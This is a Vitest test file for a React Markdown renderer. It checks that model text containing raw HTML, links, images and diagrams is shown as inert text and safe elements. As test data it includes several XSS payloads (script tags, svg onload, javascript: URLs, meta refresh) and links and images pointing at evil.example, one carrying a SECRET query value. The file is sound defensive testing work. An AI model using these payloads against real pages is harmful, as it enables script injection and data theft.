// @vitest-environment happy-dom
// Proves what is drawn in React itself: a model's text is text, whatever is in it.
import { act, StrictMode, type ReactNode } from "react";
import { createRoot } from "react-dom/client";
import { beforeAll, expect, onTestFinished, test, vi } from "vitest";
import { englishMarkdownTexts, MarkdownContext, type MarkdownWorld } from "../../src/ui/markdown/context.ts";
import { Markdown } from "../../src/ui/markdown/Markdown.tsx";

beforeAll(() => {
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });
});

const nothingLoads: MarkdownWorld = {
  texts: englishMarkdownTexts,
  copy: () => Promise.resolve(false),
  loadHighlight: () => new Promise(() => {}),
  loadMaths: () => new Promise(() => {}),
};

/** Draws a text and gives the element that it is in. */
async function draw(text: string, more: Partial<MarkdownWorld> = {}, streaming = false): Promise<HTMLElement> {
  const element = document.createElement("div");
  document.body.append(element);
  const root = createRoot(element);
  const node: ReactNode = (
    <StrictMode>
      <MarkdownContext.Provider value={{ ...nothingLoads, ...more }}>
        <Markdown text={text} streaming={streaming} />
      </MarkdownContext.Provider>
    </StrictMode>
  );
  await act(async () => root.render(node));
  onTestFinished(() => act(() => root.unmount()));
  return element;
}

const html = [
  "<script>globalThis.pwned = 1</script>",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  "<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>b</button></form>",
  "<base href=https://evil.example/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div style="position:fixed;inset:0">over everything</div>',
  "<style>*{display:none}</style>",
  '<img src=x onerror="alert(1)" id="stage" name="body">',
  "<a href='javascript:alert(1)'>a</a> and <b>bold</b> <br onclick=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<!-- comment --><![CDATA[x]]><?php x ?>",
];

test.each(html)("LO05 LO12 MK7 raw HTML is text: %s", async (raw) => {
  for (const text of [raw, `A line ${raw} b`, `- ${raw}`, `> ${raw}`, `| a |\n|---|\n| ${raw} |`, `# ${raw}`]) {
    const element = await draw(text);
    expect(element.textContent.replaceAll("|", "")).toContain(raw.slice(0, 20).replaceAll("|", ""));
    expect(element.querySelector("script,iframe,form,base,meta,style,math,object,embed,button,b,svg,img")).toBeNull();
    for (const one of element.querySelectorAll("*")) {
      for (const { name } of one.attributes)
        expect(name).toMatch(/^(?:class|dir|role|tabindex|aria-label|scope|start)$/);
    }
  }
});

test("LO05 MK7 no HTML string is ever given to the page", async () => {
  const spies = [
    vi.spyOn(Element.prototype, "innerHTML", "set"),
    vi.spyOn(Element.prototype, "outerHTML", "set"),
    vi.spyOn(Element.prototype, "insertAdjacentHTML"),
  ];
  await draw(["# h", ...html, "```js\nlet a\n```", "$x$", "- [ ] a", "| a |\n|---|\n| b |"].join("\n\n"));
  for (const spy of spies) {
    expect(spy).not.toHaveBeenCalled();
    spy.mockRestore();
  }
});

test("LO07 MK10 a diagram's source is code and nothing more", async () => {
  const source = 'graph TD\nA["<img src=x onerror=alert(1)>"]\nclick A href "javascript:alert(1)"';
  const element = await draw(`\`\`\`mermaid\n${source}\n\`\`\``);
  expect(element.querySelector("code")?.textContent).toBe(source);
  expect(element.querySelector("a,img")).toBeNull();
});

test("LO04 MK4 MK5 links open elsewhere without opener, tell their host, and write it behind a text that names another", async () => {
  const element = await draw(
    "[paypal.com](https://evil.example/x) [docs](https://a.b/) [bad](javascript:alert(1)) <b@c.de>",
  );
  const links = [...element.querySelectorAll("a")];
  expect(links.map((link) => link.getAttribute("href"))).toEqual([
    "https://evil.example/x",
    "https://a.b/",
    "mailto:b@c.de",
  ]);
  for (const link of links) expect([link.target, link.rel]).toEqual(["_blank", "noopener noreferrer"]);
  expect(links.map((link) => link.title)).toEqual(["leads to evil.example", "leads to a.b", "leads to b@c.de"]);
  expect(element.textContent).toBe("paypal.com (evil.example) docs bad b@c.de");
});

test("LO01 MK6 an image of another host is a button with its host, one of our files is shown", async () => {
  const open = vi.spyOn(window, "open").mockReturnValue(null);
  const element = await draw(
    "![A](https://evil.example/p.png?q=SECRET) ![mine](/api/v1/files/0197ab) ![bad](data:image/svg+xml,x)",
  );
  expect([...element.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual([
    "/api/v1/files/0197ab",
  ]);
  const button = element.querySelector("button");
  expect(button?.textContent).toBe("Image from evil.example: open it in a new tabA");
  expect(open).not.toHaveBeenCalled();
  button?.click();
  expect(open).toHaveBeenCalledWith("https://evil.example/p.png?q=SECRET", "_blank", "noopener,noreferrer");
  open.mockRestore();
});

test("MK10 code is copied as it is, and that is told", async () => {
  const copied: string[] = [];
  const copy = (text: string): Promise<boolean> => Promise.resolve(copied.push(text) === 2);
  const element = await draw("```js\nlet a = '<b>';\n\n  b\n```", { copy });
  const button = element.querySelector("button");
  await act(async () => button?.click());
  expect(button?.textContent).toBe(englishMarkdownTexts.copyCode);
  await act(async () => button?.click());
  expect(button?.textContent).toBe(englishMarkdownTexts.copied);
  expect(copied).toEqual(["let a = '<b>';\n\n  b", "let a = '<b>';\n\n  b"]);
  expect(element.querySelector("figure")?.dir).toBe("ltr");
  expect(element.querySelector("pre")?.tabIndex).toBe(0);
});

test("MK8 code that is long is in pieces that together are the code, coloured or not", async () => {
  const code = Array.from({ length: 300 }, (_, i) => `const value${i} = "${"x".repeat(i % 50)}";`).join("\n");
  const highlight = (text: string) =>
    text.split(/(?<=;)/).map((piece, i) => ({ text: piece, kind: i % 2 ? "hljs-a" : "" }));
  const element = await draw(`\`\`\`js\n${code}\n\`\`\``, { loadHighlight: () => Promise.resolve(highlight) });
  expect(element.querySelectorAll(".md-chunk").length).toBeGreaterThan(4);
  expect(element.querySelector("code")?.textContent).toBe(code);
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: false });
  await expect.poll(() => element.querySelectorAll(".hljs-a").length, { timeout: 10_000 }).toBeGreaterThan(100);
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });
  expect(element.querySelector("code")?.textContent).toBe(code);
});

test("MK9 what draws formulas may be missing: their source stays", async () => {
  const element = await draw("So $x^2$ is", { loadMaths: () => Promise.reject(new Error("offline")) });
  expect(element.textContent).toBe("So x^2 is");
});

test("MK11 a definition that comes later makes a link of what was text", async () => {
  expect((await draw("See [docs] and [this][docs].")).textContent).toBe("See [docs] and [this][docs].");
  const element = await draw("See [docs] and [this][docs].\n\n[docs]: https://a.b/");
  expect([...element.querySelectorAll("a")].map((link) => [link.textContent, link.href])).toEqual([
    ["docs", "https://a.b/"],
    ["this", "https://a.b/"],
  ]);
});

test("MK12 headings begin where the page says and end at six; boxes of tasks have a name", async () => {
  const element = await draw("# a\n\n## b\n\n###### c\n\n- [x] d", { headingLevel: 4 });
  expect([...element.querySelectorAll("h3,h4,h5,h6")].map(({ tagName }) => tagName)).toEqual(["H4", "H5", "H6"]);
  expect(element.querySelector("input")?.getAttribute("aria-label")).toBe("done");
  expect([...element.querySelectorAll("h4,h5,h6,ul")].every((one) => one.getAttribute("dir") === "auto")).toBe(true);
});
